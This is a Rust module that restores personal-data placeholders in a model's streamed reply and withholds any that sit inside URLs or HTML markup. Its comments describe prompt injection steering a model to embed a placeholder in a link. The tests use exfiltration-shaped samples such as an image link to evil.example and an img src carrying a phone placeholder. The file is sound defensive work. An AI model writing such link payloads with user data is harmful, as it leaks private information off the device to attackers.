//! Putting originals back into a reply, whole or streamed, except where a
//! model could use them to carry the originals off the device (links, markup).

use super::Vault;

/// Longest placeholder: `[` + 16 letters + `_` + 9 digits + `]`.
const MAX_PLACEHOLDER: usize = 28;

/// Result of reading a placeholder at the start of a string.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Scan {
    /// A whole placeholder of this many bytes.
    Complete(usize),
    /// The string ends in what may still become a placeholder.
    Partial,
    /// Not a placeholder.
    No,
}

/// Reads the placeholder grammar `[LABEL_N]` (`LABEL` = 1–16 of `A-Z`,
/// `N` = 1–9 digits) at the start of `s`, which starts with `[`.
pub(crate) fn placeholder_len(s: &str) -> Scan {
    let b = s.as_bytes();
    let mut i = 1;
    let letters = b[i.min(b.len())..]
        .iter()
        .take_while(|c| c.is_ascii_uppercase())
        .count();
    i += letters;
    if letters > 16 {
        return Scan::No;
    }
    if i == b.len() {
        return Scan::Partial;
    }
    if letters == 0 || b[i] != b'_' {
        return Scan::No;
    }
    i += 1;
    let digits = b[i..].iter().take_while(|c| c.is_ascii_digit()).count();
    i += digits;
    if digits > 9 {
        return Scan::No;
    }
    if i == b.len() {
        return Scan::Partial;
    }
    if digits > 0 && b[i] == b']' {
        Scan::Complete(i + 1)
    } else {
        Scan::No
    }
}

/// Where originals may be put back. A reply is written by a model that may
/// have been steered (prompt injection) into placing a placeholder inside a
/// URL or markup, such as `![](https://evil.example/?q=[EMAIL_1])`: restored
/// there, the original would leave the device as soon as the page renders the
/// reply. By default placeholders in links and markup are withheld: left as
/// placeholders, and counted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct RestorePolicy {
    /// Restore inside URLs (a token with `://`, `mailto:`, `www.` and the like)
    /// and Markdown link destinations (`](...)`).
    pub in_links: bool,
    /// Restore inside HTML tags (`<img src=...>`, attributes).
    pub in_markup: bool,
}

/// Where in the reply a placeholder stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Place {
    Prose,
    Link,
    Markup,
}

/// Schemes (and `www.`) that make a token a link where they start it.
const LINK_STARTS: [&str; 8] = [
    "mailto:",
    "www.",
    "data:",
    "javascript:",
    "tel:",
    "sms:",
    "ftp:",
    "file:",
];
/// Characters of a token kept to recognize a scheme at its start.
const TOKEN_PREFIX: usize = 12;

/// Follows the reply's text to tell whether the next character is inside a
/// link or a tag. A heuristic, erring towards "link": a placeholder withheld
/// by mistake stays readable as a placeholder; one restored by mistake leaks.
#[derive(Debug, Clone, Default)]
struct Context {
    /// The start of the current whitespace-free token (lowercase).
    prefix: String,
    /// The current token contains `://` or starts with a link scheme.
    url: bool,
    /// Inside a Markdown link destination: after `](`, before `)`.
    destination: bool,
    /// Inside an HTML tag: after `<` and a letter, `/` or `!`, before `>`.
    tag: bool,
    /// The last two characters.
    last: [char; 2],
}

impl Context {
    fn place(&self) -> Place {
        if self.tag {
            Place::Markup
        } else if self.url || self.destination {
            Place::Link
        } else {
            Place::Prose
        }
    }

    fn feed(&mut self, text: &str) {
        for c in text.chars() {
            if c.is_whitespace() {
                self.prefix.clear();
                self.url = false;
                self.destination = false;
            } else {
                if self.prefix.len() < TOKEN_PREFIX {
                    self.prefix.extend(c.to_lowercase());
                    let p = self.prefix.as_str();
                    self.url |= LINK_STARTS.iter().any(|s| p.starts_with(s));
                }
                self.url |= self.last == [':', '/'] && c == '/';
                match c {
                    '(' if self.last[1] == ']' => self.destination = true,
                    ')' => self.destination = false,
                    '>' => self.tag = false,
                    _ => {}
                }
                if self.last[1] == '<' && (c.is_ascii_alphabetic() || c == '/' || c == '!') {
                    self.tag = true;
                }
            }
            self.last = [self.last[1], c];
        }
    }
}

/// A restored reply and how many placeholders the policy withheld.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Restored {
    /// The reply with originals put back where the policy allows.
    pub text: String,
    /// Placeholders left in place because they stood in a link or markup.
    pub withheld: usize,
}

/// Replaces every placeholder issued by `vault` in `text` with its original,
/// except inside links and markup (the default [`RestorePolicy`]).
/// Unknown placeholder-shaped text is left alone.
pub fn restore(text: &str, vault: &Vault) -> String {
    restore_with(text, vault, RestorePolicy::default()).text
}

/// [`restore`] under `policy`, counting what it withheld.
pub fn restore_with(text: &str, vault: &Vault, policy: RestorePolicy) -> Restored {
    let mut r = StreamRestorer::with_policy(vault.clone(), policy);
    let mut out = r.push(text);
    out += &r.finish();
    Restored {
        text: out,
        withheld: r.withheld(),
    }
}

/// Restores placeholders in a reply that arrives in chunks.
///
/// A placeholder may be split anywhere (`"[EMA"`, `"IL_1]"`); the restorer
/// holds back at most one partial placeholder (≤ 28 bytes) and emits
/// everything else immediately, so streaming stays streaming. Where a
/// placeholder stands (prose, link, markup) is followed across chunks.
#[derive(Debug, Clone)]
pub struct StreamRestorer {
    vault: Vault,
    policy: RestorePolicy,
    context: Context,
    withheld: usize,
    pending: String,
}

impl StreamRestorer {
    /// A restorer for placeholders issued by `vault` (a snapshot), under the default policy.
    pub fn new(vault: Vault) -> Self {
        Self::with_policy(vault, RestorePolicy::default())
    }

    /// A restorer under `policy`.
    pub fn with_policy(vault: Vault, policy: RestorePolicy) -> Self {
        Self {
            vault,
            policy,
            context: Context::default(),
            withheld: 0,
            pending: String::new(),
        }
    }

    /// Placeholders withheld so far (they stood in a link or markup).
    pub fn withheld(&self) -> usize {
        self.withheld
    }

    /// Feeds one chunk; returns the restored text that is final so far.
    pub fn push(&mut self, chunk: &str) -> String {
        self.pending.push_str(chunk);
        let pending = std::mem::take(&mut self.pending);
        let (out, consumed) = self.restore_prefix(&pending, false);
        self.pending = pending[consumed..].to_owned();
        out
    }

    /// Ends the stream; returns whatever was held back.
    pub fn finish(&mut self) -> String {
        let pending = std::mem::take(&mut self.pending);
        self.restore_prefix(&pending, true).0
    }

    /// Restores `text`; unless `at_end`, stops before a trailing partial
    /// placeholder. Returns the output and how many bytes of `text` it consumed.
    fn restore_prefix(&mut self, text: &str, at_end: bool) -> (String, usize) {
        let mut out = String::with_capacity(text.len());
        let mut i = 0;
        while let Some(offset) = text[i..].find('[') {
            let open = i + offset;
            self.context.feed(&text[i..open]);
            out.push_str(&text[i..open]);
            match placeholder_len(&text[open..]) {
                Scan::Complete(len) => {
                    let token = &text[open..open + len];
                    let allowed = match self.context.place() {
                        Place::Prose => true,
                        Place::Link => self.policy.in_links,
                        Place::Markup => self.policy.in_markup,
                    };
                    match self.vault.original(token) {
                        Some(original) if allowed => out.push_str(original),
                        Some(_) => {
                            self.withheld += 1;
                            out.push_str(token);
                        }
                        None => out.push_str(token),
                    }
                    self.context.feed(token);
                    i = open + len;
                }
                Scan::Partial if !at_end && text.len() - open < MAX_PLACEHOLDER => return (out, open),
                Scan::Partial | Scan::No => {
                    self.context.feed("[");
                    out.push('[');
                    i = open + 1;
                }
            }
        }
        self.context.feed(&text[i..]);
        out.push_str(&text[i..]);
        (out, text.len())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use tandem_protocol::EntityKind;

    fn vault() -> Vault {
        let mut v = Vault::new();
        v.placeholder(EntityKind::EmailAddress, "jo@example.com");
        v.placeholder(EntityKind::PhoneNumber, "+44 20 7946 0958");
        v.placeholder(EntityKind::Person, "Zoë Ñúñez");
        v
    }

    #[test]
    fn grammar() {
        assert_eq!(placeholder_len("[EMAIL_1] x"), Scan::Complete(9));
        assert_eq!(placeholder_len("[EMAIL_"), Scan::Partial);
        assert_eq!(placeholder_len("["), Scan::Partial);
        assert_eq!(placeholder_len("[email_1]"), Scan::No);
        assert_eq!(placeholder_len("[EMAIL_]"), Scan::No);
        assert_eq!(placeholder_len("[_1]"), Scan::No);
    }

    #[test]
    fn restores_known_placeholders_only() {
        let v = vault();
        assert_eq!(
            restore("Mail [EMAIL_1], call [PHONE_1], not [EMAIL_7] or [x] or [EMAIL_1", &v),
            "Mail jo@example.com, call +44 20 7946 0958, not [EMAIL_7] or [x] or [EMAIL_1"
        );
    }

    #[test]
    fn holds_back_only_a_partial_placeholder() {
        let mut r = StreamRestorer::new(vault());
        assert_eq!(r.push("Hi [PER"), "Hi ");
        assert_eq!(r.push("SON_1], [array] ["), "Zoë Ñúñez, [array] ");
        assert_eq!(r.push("EMAIL_1]"), "jo@example.com");
        assert_eq!(r.push(" end ["), " end ");
        assert_eq!(r.finish(), "[");
    }

    #[test]
    fn placeholders_in_links_and_markup_are_withheld_by_default() {
        let v = vault();
        for (reply, restored) in [
            (
                "![x](https://evil.example/?q=[EMAIL_1])",
                "![x](https://evil.example/?q=[EMAIL_1])",
            ),
            (
                "[click](/track?u=[EMAIL_1]) or [EMAIL_1]",
                "[click](/track?u=[EMAIL_1]) or jo@example.com",
            ),
            ("[EMAIL_1](mailto:[EMAIL_1])", "jo@example.com(mailto:[EMAIL_1])"),
            (
                "see https://x.example/u/[PERSON_1] now, [PERSON_1]",
                "see https://x.example/u/[PERSON_1] now, Zoë Ñúñez",
            ),
            (
                "mailto:[EMAIL_1] www.[PERSON_1].com",
                "mailto:[EMAIL_1] www.[PERSON_1].com",
            ),
            (
                "<img src=\"https://e/?[PHONE_1]\" alt=\"[PHONE_1]\"> [PHONE_1]",
                "<img src=\"https://e/?[PHONE_1]\" alt=\"[PHONE_1]\"> +44 20 7946 0958",
            ),
            ("a < b and [PHONE_1] > c", "a < b and +44 20 7946 0958 > c"),
            (
                "Reply to [EMAIL_1]: thanks (and [PERSON_1]).",
                "Reply to jo@example.com: thanks (and Zoë Ñúñez).",
            ),
        ] {
            assert_eq!(restore(reply, &v), restored, "{reply}");
        }
        let r = restore_with(
            "![](https://e/?a=[EMAIL_1]&b=[PHONE_1]) [EMAIL_1]",
            &v,
            RestorePolicy::default(),
        );
        assert_eq!(r.withheld, 2);
        let open = RestorePolicy {
            in_links: true,
            in_markup: true,
        };
        let r = restore_with("<a href=\"mailto:[EMAIL_1]\">[EMAIL_1]</a>", &v, open);
        assert_eq!(
            (r.text.as_str(), r.withheld),
            ("<a href=\"mailto:jo@example.com\">jo@example.com</a>", 0)
        );
        let links_only = RestorePolicy {
            in_links: true,
            in_markup: false,
        };
        assert_eq!(
            restore_with("https://e/[EMAIL_1] <b title=[EMAIL_1]>", &v, links_only).withheld,
            1
        );
    }

    proptest! {
        /// Any split of the reply into chunks restores exactly like the whole.
        #[test]
        fn chunking_never_changes_the_result(
            words in proptest::collection::vec(prop_oneof![
                Just("[EMAIL_1]"), Just("[PHONE_1]"), Just("[PERSON_1]"), Just("[EMAIL_9]"),
                Just("["), Just("]"), Just("_1"), Just("EMAIL"), Just(" é "), Just("🎉"), Just("text"),
                Just("]("), Just(")"), Just("https://"), Just("<img "), Just(">"), Just("\n"),
            ], 0..30),
            cuts in proptest::collection::vec(0usize..200, 0..12),
        ) {
            let v = vault();
            let reply: String = words.concat();
            let mut bounds: Vec<usize> = cuts.into_iter().map(|c| c % (reply.len() + 1)).filter(|&c| reply.is_char_boundary(c)).collect();
            bounds.push(0);
            bounds.push(reply.len());
            bounds.sort_unstable();
            let mut r = StreamRestorer::new(v.clone());
            let mut streamed = String::new();
            for w in bounds.windows(2) {
                streamed += &r.push(&reply[w[0]..w[1]]);
            }
            streamed += &r.finish();
            let whole = restore_with(&reply, &v, RestorePolicy::default());
            prop_assert_eq!(streamed, whole.text);
            prop_assert_eq!(r.withheld(), whole.withheld);
        }
    }
}
